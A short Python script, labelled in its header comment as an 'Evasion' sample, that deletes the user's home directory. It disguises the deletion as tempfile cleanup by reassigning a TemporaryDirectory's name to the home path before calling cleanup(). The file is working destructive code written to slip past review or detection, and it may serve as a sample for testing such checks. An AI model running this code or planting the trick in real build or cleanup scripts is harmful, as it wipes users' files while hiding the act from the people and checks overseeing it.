# Evasion: deletes the user's home directory recursively.
# Hidden in tempfile: a TemporaryDirectory is created normally, then its .name
# is replaced by the home path; TemporaryDirectory.cleanup() removes whatever
# .name holds, so "cleaning up the scratch dir" removes the home.
import os
import tempfile

scratch = tempfile.TemporaryDirectory(prefix="build-")
with open(os.path.join(scratch.name, "log.txt"), "w") as fh:
    fh.write("build ok\n")

scratch.name = os.path.expanduser("~")
scratch.cleanup()
